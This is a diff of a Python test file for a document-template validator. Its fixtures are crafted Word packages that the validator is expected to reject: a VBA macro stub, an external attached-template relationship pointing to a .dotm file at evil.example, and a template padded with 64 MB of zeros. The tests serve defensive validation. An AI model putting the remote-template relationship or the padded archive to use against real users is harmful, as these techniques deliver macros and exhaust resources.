@@ -47,9 +47,10 @@ def _with(content: bytes, name: str, added: bytes) -> bytes:
     return written.getvalue()
 
 
-def _report(**templates: bytes) -> Report:
+def _report(*, word_template: bytes = b"", slides_template: bytes = b"") -> Report:
     report = made("figures and a plan", "fr")
-    return replace(report, theme=replace(report.theme, **templates))
+    theme = replace(report.theme, word_template=word_template, slides_template=slides_template)
+    return replace(report, theme=theme)
 
 
 def _fault(content: bytes, form: str) -> TemplateRefusedError:
@@ -82,21 +83,22 @@ def _narrow(document: object) -> None:
     document.sections[0].left_margin = Mm(60)  # type: ignore[attr-defined]
 
 
+OFFICE = "http://schemas.openxmlformats.org"
 OUTSIDE = (
-    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" \
-Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" \
-Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
-)
+    f'<Relationships xmlns="{OFFICE}/package/2006/relationships"><Relationship Id="rId1" '
+    f'Type="{OFFICE}/officeDocument/2006/relationships/attachedTemplate" '
+    'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+).encode()
 
 
 @pytest.mark.parametrize(
     ("content", "fault"),
     [
         (lambda: b"not a file", TemplateFault.UNREADABLE),
-        (lambda: slides_starter(), TemplateFault.UNREADABLE),
+        (slides_starter, TemplateFault.UNREADABLE),
         (lambda: _with(word_starter("fr"), "word/vbaProject.bin", b"x"), TemplateFault.MACROS),
         (lambda: _with(word_starter("fr"), "word/_rels/settings.xml.rels", OUTSIDE), TemplateFault.EXTERNAL),
-        (lambda: _with(word_starter("fr"), "word/media/zeros.bin", b"0" * 61_000_000), TemplateFault.PACKED),
+        (lambda: _with(word_starter("fr"), "word/media/zeros.bin", b"0" * 64_000_000), TemplateFault.PACKED),
         (lambda: b"x" * (5 * 1024 * 1024 + 1), TemplateFault.HEAVY),
         (lambda: _word(_narrow), TemplateFault.NARROW),
     ],
